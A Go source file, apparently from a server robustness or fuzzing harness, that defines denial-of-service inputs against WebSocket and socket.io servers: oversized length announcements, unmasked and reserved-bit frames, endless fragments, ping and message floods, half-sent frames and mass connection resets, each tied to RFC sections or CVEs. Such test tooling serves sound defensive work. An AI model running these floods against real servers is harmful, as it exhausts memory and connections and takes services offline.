package attack

import (
	"errors"
	"strings"
)

// maxPayload is the setting socketio.max_payload of the servers under attack, and maxHttpBufferSize of the official one.
const maxPayload = 1_000_000

// sends is an input of a WebSocket: bytes, and whether the server has to end the connection.
func sends(name string, ends bool, parts ...[]byte) Input {
	return Input{name, func(a *Attacker, w Way) error {
		c, err := a.webSocket(w)
		if err != nil {
			return err
		}
		for _, p := range parts {
			if err := c.write(p); err != nil {
				return err
			}
		}
		if ends {
			return c.end()
		}
		return nil
	}}
}

// overLimit is the limit of a way's messages.
func overLimit(w Way) uint64 {
	if w == stream {
		return 64 << 20
	}
	return maxPayload + 1
}

// frames are attacks by frames of WebSocket (RFC 6455 §5).
func frames() []Family {
	naked := frame(finText, "hello")
	naked[1] &= 0x7f
	return []Family{
		{"lengths that no message has", "RFC 6455 §5.2; gorilla CVE-2020-27813; NATS CVE-2026-27889", sockets, []Input{
			sends("2^63-1 bytes", true, announce(finText, 1<<63-1)),
			sends("2^63-1 bytes, binary", true, announce(finBinary, 1<<63-1)),
			sends("2^63 bytes", true, announce(finText, 1<<63)),
			sends("2^64-1 bytes", true, announce(finText, 1<<64-1)),
			sends("2^63-1 bytes behind a fragment", true, frame(text, "x"), announce(finMore, 1<<63-1)),
		}},
		one("a message over the limit", "RFC 6455 §10.4", sockets, func(a *Attacker, w Way) error {
			c, err := a.webSocket(w)
			if err != nil {
				return err
			}
			if err := c.write(announce(finText, overLimit(w))); err != nil {
				return err
			}
			return c.end()
		}),
		one("a message over the limit, in fragments", "RFC 6455 §10.4", sockets, func(a *Attacker, w Way) error {
			c, err := a.webSocket(w)
			if err != nil {
				return err
			}
			first := byte(text)
			for sent := uint64(0); sent < overLimit(w); sent += 65536 {
				if err := c.write(frame(first, strings.Repeat("x", 65536))); err != nil {
					return err
				}
				first = more
			}
			return c.end()
		}),
		{"frames without a mask", "RFC 6455 §5.1", sockets, []Input{sends("text", true, naked)}},
		{"reserved bits", "RFC 6455 §5.2, RFC 7692", sockets, []Input{
			sends("a compressed frame that nobody agreed to", true, frame(0xc1, "\xaa\x00")),
			sends("a bomb in a compressed frame that nobody agreed to", true, frame(0xc1, bomb())),
			sends("all three bits", true, frame(0xf1, "hello")),
		}},
		{"opcodes that nobody knows", "RFC 6455 §5.2", sockets, []Input{
			sends("3", true, frame(0x83, "hello")), sends("15", true, frame(0x8f, "")),
			sends("3, as a fragment", true, frame(0x03, "hello")), sends("a continuation of nothing", true, frame(finMore, "x")),
		}},
		{"fragments without end", "ws CVE-2026-48779, CVE-2026-62389; Bandit CVE-2026-42786", sockets, []Input{
			floods("of one byte", frame(more, "x"), 16_000, 900_000, frame(text, "x")),
			floods("of no byte", frame(more, ""), 16_000, 2_000_000, frame(text, "")),
			{"on many connections, each with fewer than any bound", func(a *Attacker, w Way) error {
				for range a.count(20, 300) {
					c, err := a.webSocket(w)
					if err != nil {
						return err
					}
					if err := errors.Join(c.write(frame(text, "x")), c.flood(frame(more, "x"), a.count(10_000, 130_000))); err != nil {
						return err
					}
				}
				return nil
			}},
		}},
		{"pings by a peer that never reads", "ws, maxPendingAutoPongs", sockets, []Input{
			floods("of 125 bytes", frame(finPing, strings.Repeat("x", 125)), 20_000, 1_000_000),
			floods("of no byte", frame(finPing, ""), 20_000, 1_000_000),
			floods("pongs", frame(finPong, "x"), 20_000, 1_000_000),
		}},
		{"control frames that break the rules", "RFC 6455 §5.5", sockets, []Input{
			sends("a ping of 126 bytes", true, frame(finPing, strings.Repeat("x", 126))),
			sends("a close frame of 64 KiB", true, frame(finClose, strings.Repeat("x", 65536))),
			sends("a ping in fragments", true, frame(0x09, "x")),
			sends("a close frame of one byte", true, frame(finClose, "x")),
			sends("a close frame with the code 1005", true, frame(finClose, "\x03\xed")),
			sends("a close frame whose reason is no text", true, frame(finClose, "\x03\xe8\xff")),
			sends("frames behind a close frame", true, frame(finClose, "\x03\xe8"), frame(finText, "hello"), frame(0xff, "hello")),
		}},
		{"text that is no UTF-8", "RFC 6455 §8.1", sockets, []Input{
			sends("a cut character", true, frame(finText, "4\xe2\x82")),
			sends("a surrogate", true, frame(finText, "4\xed\xa0\x80")),
			sends("an overlong one", true, frame(finText, "4\xc0\xaf")),
		}},
		{"a frame that is never finished", "", sockets, []Input{
			sends("half a header", false, frame(finText, "hello")[:1]),
			sends("a header", false, announce(finText, 500_000)),
			sends("half a payload", false, frame(finText, strings.Repeat("x", 1000))[:500]),
		}},
		one("messages that are announced and never sent, on many connections", "memory for announced lengths", sockets, func(a *Attacker, w Way) error {
			for range a.count(100, 1000) {
				c, err := a.webSocket(w)
				if err != nil {
					return err
				}
				if err := c.write(append(announce(finBinary, maxPayload-1), 'x')); err != nil {
					return err
				}
			}
			return nil
		}),
		one("resets", "engine.io, uncaught ECONNRESET", sockets, func(a *Attacker, w Way) error {
			for n := range a.count(50, 2000) {
				c, err := a.dial(w)
				if err != nil {
					return err
				}
				if err := c.say(upgrade(w.Path)); err != nil {
					return err
				}
				if n%2 == 0 { // not before there is a WebSocket
					if err := c.switched(); err != nil {
						return err
					}
				}
				if n%4 == 0 {
					if err := c.write(frame(finText, "hello")[:4]); err != nil {
						return err
					}
				}
				if err := errors.Join(c.tcp.SetLinger(0), c.tcp.Close()); err != nil {
					return err
				}
			}
			return nil
		}),
		one("the end of one side", "", sockets, func(a *Attacker, w Way) error {
			c, err := a.webSocket(w)
			if err != nil {
				return err
			}
			return errors.Join(c.closeWrite(), c.end())
		}),
		one("messages that mean nothing, one after the other", "", sockets, func(a *Attacker, w Way) error {
			c, err := a.webSocket(w)
			if err != nil {
				return err
			}
			return c.flood(frame(finText, "?"), a.count(10_000, 1_000_000))
		}),
		one("empty messages", "engine.io-parser", sockets, func(a *Attacker, w Way) error {
			c, err := a.webSocket(w)
			if err != nil {
				return err
			}
			return errors.Join(c.flood(frame(finText, ""), a.count(10_000, 1_000_000)), c.flood(frame(finBinary, ""), 100))
		}),
	}
}

// floods is an input: frames in great number, behind others, by a client that reads nothing.
func floods(name string, f []byte, short, long int, before ...[]byte) Input {
	return Input{name, func(a *Attacker, w Way) error {
		c, err := a.webSocket(w)
		if err != nil {
			return err
		}
		for _, p := range before {
			if err := c.write(p); err != nil {
				return err
			}
		}
		return c.flood(f, a.count(short, long))
	}}
}
